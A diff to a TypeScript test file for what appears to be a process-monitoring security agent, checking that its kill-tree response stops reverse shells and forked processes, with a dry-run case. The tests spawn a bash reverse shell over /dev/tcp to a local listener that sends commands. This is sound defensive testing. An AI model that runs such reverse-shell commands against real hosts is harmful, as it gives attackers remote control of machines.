@@ -4,7 +4,7 @@
 // meanwhile, a freeze holds against SIGCONT and ends, a dry run changes nothing, a limit disarms, and the
 // workload's first process is left alone. /proc says who is left, not the agent.
 // Time limit: 900 s.
-import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { createServer, type Socket } from "node:net";
 import { join } from "node:path";
 import { setTimeout as sleep } from "node:timers/promises";
@@ -38,10 +38,12 @@ const MANNERS = [
   { tiers: "all", env: { VEDETTE_ASSUME_KERNEL: "5.10" } },
 ];
 
-for (const { tiers, env } of MANNERS) {
-  const how = `--tiers ${tiers}${"VEDETTE_ASSUME_KERNEL" in env ? ", as under Linux 5.10" : ""}`;
-  const options = { flags: ["--tiers", tiers], env };
+const MANNERS_SAID = MANNERS.map(({ tiers, env }) => ({
+  how: `--tiers ${tiers}${"VEDETTE_ASSUME_KERNEL" in env ? ", as under Linux 5.10" : ""}`,
+  options: { flags: ["--tiers", tiers], env: env as Record<string, string> },
+}));
 
+for (const { how, options } of MANNERS_SAID) {
   for (const mode of ["tree", "hop", "burst"]) {
     test(`${how}: kill-tree leaves nobody of a ${mode}, nor of what it forks meanwhile`, async () => {
       for (let round = 0; round < 3; ++round) {
@@ -164,13 +166,16 @@ test("a sidecar asks the agents that allow it, and no others", async () => {
   }
 });
 
-test("a reverse shell is killed with what it started", async () => {
+/** Who waits for shells and has each of them run a program at once, as often as it takes commands. */
+async function attacker(folder: string) {
   let [shells, closed] = [0, 0];
   const server = createServer((shell: Socket) => {
-    shells++;
-    const asking = setInterval(() => shell.write("sleep 100 &\ncat /dev/null\n"), 1);
+    const command = `/usr/bin/touch ${join(folder, `ran.${shells++}`)}; exit\n`;
+    const asking = setInterval(() => shell.write(command), 1);
+    shell.write(command);
     shell
       .on("error", () => undefined)
+      .on("data", () => undefined)
       .on("close", () => {
         clearInterval(asking);
         closed++;
@@ -178,23 +183,44 @@ test("a reverse shell is killed with what it started", async () => {
   });
   await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
   const { port } = server.address() as { port: number };
+  const counts = (): object => ({
+    shells,
+    closed,
+    ran: readdirSync(folder).filter((f) => f.startsWith("ran.")).length,
+  });
+  return { port, counts, end: () => server.close() };
+}
+
+/** All of them: VEDETTE_RESPOND_ROUNDS=200. */
+const ROUNDS = Number(process.env.VEDETTE_RESPOND_ROUNDS ?? 40);
+
+/** Lets so many reverse shells begin, one after another, each when the one before has ended. */
+async function reverseShells(rounds: number, mode: string, flags: string[], env: Record<string, string>) {
   const folder = scratch();
+  const { port, counts, end } = await attacker(folder);
   const respond = join(folder, "respond.yaml");
-  writeFileSync(
-    respond,
-    stringify({
-      respond: [
-        { rules: ["Shell on a socket", "Shell on socket", "Reverse shell"], action: "kill-tree", mode: "enforce" },
-      ],
-    }),
-  );
-  const shell = `bash -c 'bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1' 2>/dev/null; echo over`;
-  const argv = [...VEDETTE, "run", "--policy", "policies/command-and-control/shell-on-socket", "--respond", respond];
-  const ended = await run([...argv, "--", "sh", "-c", shell], { limitMs: 60_000 });
-  server.close();
-  assert.match(ended.stdout, /over/, ended.stderr);
-  assert.equal([shells, closed], [1, 1]);
-  assert.match(ended.stderr, /Response kill-tree: done/);
+  const row = { rules: ["Shell on a socket"], action: "kill-tree", mode, limit: { per_minute: 1000 } };
+  writeFileSync(respond, stringify({ respond: [row] }));
+  const shell = `bash -c 'bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1' 2>/dev/null`;
+  const script = `i=0; while [ $i -lt ${rounds} ]; do ${shell}; i=$((i+1)); done; echo over`;
+  const policy = ["--policy", "policies/command-and-control/shell-on-socket"];
+  const argv = [...VEDETTE, "run", ...policy, "--respond", respond, ...flags, "--", "sh", "-c", script];
+  const { stdout, stderr } = await run(argv, { limitMs: 240_000, env });
+  end();
+  assert.is(stdout, "over\n", stderr);
+  return { counts: counts(), done: stderr.match(/"output":"[^"]*Response kill-tree: done/g)?.length };
+}
+
+test("a reverse shell that nothing kills runs what it is told to, and a dry run changes nothing of that", async () => {
+  const { counts, done } = await reverseShells(1, "dry-run", [], {});
+  assert.equal([counts, done], [{ shells: 1, closed: 1, ran: 1 }, undefined]);
 });
+
+for (const { how, options } of MANNERS_SAID) {
+  test(`${how}: a reverse shell is killed before it has run a program, ${ROUNDS} times of ${ROUNDS}`, async () => {
+    const { counts, done } = await reverseShells(ROUNDS, "enforce", options.flags, options.env);
+    assert.equal([counts, done], [{ shells: ROUNDS, closed: ROUNDS, ran: 0 }, ROUNDS]);
+  });
+}
 
 test.run();
